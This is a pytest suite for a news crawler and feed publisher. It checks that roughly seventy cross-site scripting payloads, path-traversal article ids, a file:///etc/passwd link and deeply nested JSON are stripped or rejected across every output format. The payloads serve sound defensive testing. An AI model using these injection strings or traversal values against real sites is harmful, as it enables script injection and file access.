"""Hostile sources through real crawls of the sample site: nothing escapes the output folders, no markup
survives in any output format, a bad id or media name costs one entry or one category, never a traceback."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from lxml import etree

from crawler.samplesite import SampleSite, synthetic
from crawler.text.slugs import RESERVED_SLUGS, SLUG_MAX_BYTES

from crawlkit import run_finews, status_json, write_config
from feedcheck import check_atom, check_json_feed, check_rss
from xsscheck import html_survivors, page_survivors, text_survivors, unsafe_url

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<div onmouseover=\"alert(1)\">悬停</div>",
    "<p onclick=alert(1)>点击</p>",
    "<a href=\"javascript:alert(1)\">链接</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">链接</a>",
    "<a href=\" javascript:alert(1)\">链接</a>",
    "<a href=\"java\tscript:alert(1)\">链接</a>",
    "<a href=\"java\nscript:alert(1)\">链接</a>",
    "<a href=\"&#106;avascript:alert(1)\">链接</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">链接</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">链接</a>",
    "<a href=\"javascript&colon;alert(1)\">链接</a>",
    "<a href=\"\x01javascript:alert(1)\">链接</a>",
    "<a href=\"vbscript:msgbox(1)\">链接</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">链接</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">链接</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<applet code=\"x.class\"></applet>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(javascript:alert(1))\">样式</p>",
    "<div style=\"width:expression(alert(1))\">样式</div>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example/\"><input name=p><button>发送</button></form>",
    "<button formaction=\"javascript:alert(1)\">按钮</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "]]>&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><script>alert(1)</script>-->",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    "<a href=\"https://ok.example/\" onmouseover=\"alert(1)\">混合</a>",
    "<img src=\"https://ok.example/a.png\" alt=\"\" onload=\"alert(1)\">",
    "<table background=\"javascript:alert(1)\"><tr><td>表</td></tr></table>",
    "<blockquote cite=\"javascript:alert(1)\">引用</blockquote>",
    "\ufffe\uffff<script>alert(1)</script>",
    "\x00\x01\x08\x0b\x0c\x1b\x7f\x85<img src=x onerror=alert(1)>",
    "<a href=\"https://ok.example/\"\x00onclick=alert(1)>空字符</a>",
    "<<script>script>alert(1)<</script>/script>",
    "<img \"\"\"><script>alert(1)</script>\">",
]
LONG_TITLE = "长" * 100_000
HOSTILE_MEDIA = ["all", "ALL", "archive", "topics", "stocks", "ab", "a/b", "ＡＢ", "上海证券报" * 11,
                 "<script>alert(1)</script>媒体", "../../媒体"]


def test_the_corpus_has_at_least_sixty_vectors():
    assert len(set(XSS_VECTORS)) >= 60


def hostile_articles() -> list:
    """One article per vector (in its title, body and digest), the long title, the hostile media names."""
    base = synthetic(len(XSS_VECTORS) + 1 + len(HOSTILE_MEDIA), 3, seed=12)
    articles = []
    for n, vector in enumerate(XSS_VECTORS):
        rolling = n % 2 == 0
        articles.append(replace(base[n], title=f"标题{n}{vector}", html=f"<p>正文{n}</p>{vector}<p>尾{n}</p>",
                                list="records" if rolling else "nodeList", digest=f"摘要{n}{vector}" if rolling else "",
                                url_w=vector if rolling else "", category="emnews" if rolling else base[n].category,
                                category_name="东财滚动新闻" if rolling else base[n].category_name))
    n = len(XSS_VECTORS)
    articles.append(replace(base[n], title=LONG_TITLE))
    for i, media in enumerate(HOSTILE_MEDIA, start=n + 1):
        articles.append(replace(base[i], media=media, title=f"媒体名{i}"))
    return articles


@pytest.fixture(scope="module")
def published(tmp_path_factory) -> tuple[Path, Path, str]:
    """The hostile site crawled by every kind (with Jekyll posts) and published in full."""
    folder = tmp_path_factory.mktemp("hostile")
    with SampleSite(hostile_articles()) as site:
        config = write_config(site, folder, kinds=("choice", "eastmoney", "fastnews"), jekyll=True)
        crawl = run_finews("crawl", "--config", str(config), timeout=600)
    publish = run_finews("publish", "--all", "--config", str(config), timeout=300)
    assert crawl.returncode == 0, crawl.stderr[-3000:]
    assert publish.returncode == 0, publish.stderr[-3000:]
    return folder, config, crawl.stderr + publish.stderr


def feeds(output: Path) -> list[Path]:
    return sorted(output.glob("*/rss.xml")) + sorted(output.glob("*/atom.xml")) + sorted(output.glob("*/feed.json"))


def test_no_xss_vector_survives_in_any_rss_atom_or_json_feed(published):
    folder, _, _ = published
    survivors, entries = [], 0
    for path in feeds(folder / "public"):
        data = path.read_bytes()
        if path.name == "rss.xml":
            root = etree.fromstring(data)
            check_rss(data)
            for item in root.iter("item"):
                entries += 1
                survivors += text_survivors(item.findtext("title") or "")
                survivors += html_survivors(item.findtext("description") or "")
                survivors += html_survivors(item.findtext("{http://purl.org/rss/1.0/modules/content/}encoded") or "")
                survivors += [f"link {item.findtext('link')!r}"] if unsafe_url(item.findtext("link") or "") else []
        elif path.name == "atom.xml":
            check_atom(data)
            atom = "{http://www.w3.org/2005/Atom}"
            for entry in etree.fromstring(data).iter(f"{atom}entry"):
                survivors += text_survivors(entry.findtext(f"{atom}title") or "")
                survivors += html_survivors(entry.findtext(f"{atom}content") or "")
                survivors += html_survivors(entry.findtext(f"{atom}summary") or "")
        else:
            feed = check_json_feed(data)
            for item in feed["items"]:
                survivors += text_survivors(item["title"]) + html_survivors(item.get("content_html", ""))
                survivors += text_survivors(item.get("summary", ""))
    assert entries > len(XSS_VECTORS)
    assert survivors == []


def test_no_xss_vector_survives_in_any_page_or_opml_list(published):
    folder, _, _ = published
    output = folder / "public"
    pages = sorted(output.rglob("index.html"))
    assert len(pages) > 3
    for page in pages:
        assert page_survivors(page.read_bytes()) == [], page
    outlines = [outline for path in sorted(output.rglob("opml.xml"))
                for outline in etree.fromstring(path.read_bytes()).iter("outline")]
    for outline in outlines:
        assert text_survivors(outline.get("text", "")) == [] and text_survivors(outline.get("title", "")) == []
        for name in ("xmlUrl", "htmlUrl"):
            assert not unsafe_url(outline.get(name, ""))


def test_no_xss_vector_survives_in_the_jekyll_posts(published):
    folder, _, _ = published
    posts = sorted((folder / "_posts").iterdir())
    assert len(posts) > len(XSS_VECTORS)
    for post in posts:
        _, front, rest = post.read_text(encoding="utf-8").split("---\n", 2)
        meta = yaml.safe_load(front)
        assert text_survivors(meta["title"]) == [] and text_survivors(str(meta["tags"])) == [], post.name
        body, trailer = rest.rsplit("\n\n<", 1)
        link = trailer.split(">\n\n", 1)[0]
        assert not unsafe_url(link), (post.name, link)
        assert html_survivors(body) == [], post.name


def test_markup_in_titles_is_stripped_to_plain_text_in_the_store_and_every_format(published):
    folder, config, _ = published
    feed = json.loads((folder / "public" / "all" / "feed.json").read_bytes())
    titles = {item["title"] for item in feed["items"]}
    assert "标题0" in titles and "标题4" in titles and "标题5" in titles
    assert not [title for title in titles if "<" in title and text_survivors(title)]


def test_a_100k_character_title_is_published_whole_and_well_formed(published):
    folder, _, _ = published
    titles = [item.findtext("title") or "" for path in sorted((folder / "public").glob("*/rss.xml"))
              for item in etree.fromstring(path.read_bytes()).iter("item")]
    assert LONG_TITLE in titles


def test_no_traceback_reaches_the_log_for_any_hostile_input(published):
    _, _, log = published
    assert "Traceback" not in log and "RecursionError" not in log


def test_hostile_media_names_get_distinct_capped_unreserved_slugs_and_all_is_listed_once(published):
    folder, config, _ = published
    output = folder / "public"
    categories = status_json(config)["categories"]
    slugs = [c["slug"] for c in categories]
    names = {c["name"] for c in categories}
    assert len(slugs) == len(set(slugs))
    assert not set(slugs) & RESERVED_SLUGS
    assert all(len(slug.encode()) <= SLUG_MAX_BYTES for slug in slugs)
    assert {f"{media.strip()}新闻" for media in ("all", "ALL", "ab", "a/b", "ＡＢ", "上海证券报" * 11)} <= names
    index = (output / "index.html").read_text(encoding="utf-8")
    assert index.count('<a class="name" href="all/"') == 1
    all_feed = check_json_feed((output / "all" / "feed.json").read_bytes())
    assert all_feed["title"].startswith("全部新闻")
    assert {p.name for p in output.iterdir() if p.is_dir()} - {"stocks"} == {*slugs, "all"}


@pytest.fixture
def hostile_ids(tmp_path) -> tuple[Path, str]:
    with SampleSite() as site:
        newest = site.articles[0]
        for route, key in (("nodeList", "infocode"), ("records", "infoCode"), ("record", "infoCode")):
            for code in ("NW/../../escaped?id=NW202611309999999999", "../../escaped/202611309999999999",
                         "nw202611309999999998", "NW２０２６１１３０９９９９９９９９９７"):
                site.add_entry(route, {key: code, "title": "坏编号", "showtime": newest.time, "from": "上海证券报"})
        for route in ("column", "fastnews"):
            site.add_entry(route, {"code": "../../escaped/202611309999999999", "title": "坏编号",
                                   "showTime": newest.time, "url": site.url("/a/../../escaped.html"),
                                   "summary": "【坏编号】x"})
        site.add_entry("column", {"title": "坏链接", "showTime": newest.time, "code": "202611309999999996",
                                  "url": "file:///etc/passwd"})
        config = write_config(site, tmp_path, kinds=("choice", "eastmoney", "fastnews"), jekyll=True)
        result = run_finews("crawl", "--config", str(config), timeout=600)
    return config, result


def test_an_id_that_is_not_exactly_an_id_is_dropped_as_bad_id_and_nothing_is_written_outside(hostile_ids, tmp_path):
    config, result = hostile_ids
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr
    assert not [p for p in tmp_path.parent.rglob("*escaped*")]
    sources = {s["name"]: s for s in status_json(config)["sources"]}
    report = json.loads(run_finews("status", "--json", "--config", str(config)).stdout)
    assert report["publish"]["outcome"] == "ok"
    for name in ("choice-rolling", "choice-media", "choice-market", "eastmoney-columns", "fastnews"):
        assert sources[name]["dropped"] >= 1, name
        assert f"source {name}: dropped (bad_id)" in result.stderr, name
    assert "NW/../../escaped?id=NW202611309999999999" in result.stderr and "at http://127.0.0.1" in result.stderr
    assert "source eastmoney-columns: dropped (bad_url)" in result.stderr
    posts = [p.name for p in (tmp_path / "_posts").iterdir()]
    assert posts and all(name.endswith(".md") and "/" not in name for name in posts)


def test_a_list_nested_100k_deep_is_dropped_as_bad_json_without_a_traceback(tmp_path):
    with SampleSite() as site:
        site.set_fault("nodeList", "deep_json")
        config = write_config(site, tmp_path)
        result = run_finews("crawl", "--config", str(config), timeout=300)
    assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr
    assert "(bad_json)" in result.stderr and "nested too deep" in result.stderr
    media = {s["name"]: s for s in status_json(config)["sources"]}["choice-media"]
    assert media["outcome"] == "failed" and media["errors"] == 1


def test_a_category_that_cannot_be_written_is_skipped_and_the_rest_the_index_and_status_say_so(tmp_path):
    with SampleSite() as site:
        config = write_config(site, tmp_path)
        run_finews("crawl", "--no-publish", "--config", str(config), check=True)
    output = tmp_path / "public"
    output.mkdir()
    (output / "shanghaizhengquanbao").write_text("not a folder", encoding="utf-8")
    result = run_finews("publish", "--all", "--config", str(config))
    assert result.returncode == 1
    assert "category shanghaizhengquanbao not published" in result.stderr and "Traceback" not in result.stderr
    assert (output / "all" / "rss.xml").exists() and (output / "emnews" / "rss.xml").exists()
    assert (output / "index.html").exists() and (output / "opml.xml").exists()
    assert 'href="shanghaizhengquanbao/"' not in (output / "index.html").read_text(encoding="utf-8")
    report = json.loads(run_finews("status", "--json", "--config", str(config)).stdout)
    assert report["publish"]["outcome"] == "failed"
    assert "category shanghaizhengquanbao:" in report["publish"]["message"]
    assert "not published: category shanghaizhengquanbao" in run_finews("status", "--config", str(config)).stdout
    (output / "shanghaizhengquanbao").unlink()
    assert run_finews("publish", "--config", str(config)).returncode == 0
    assert (output / "shanghaizhengquanbao" / "rss.xml").exists()
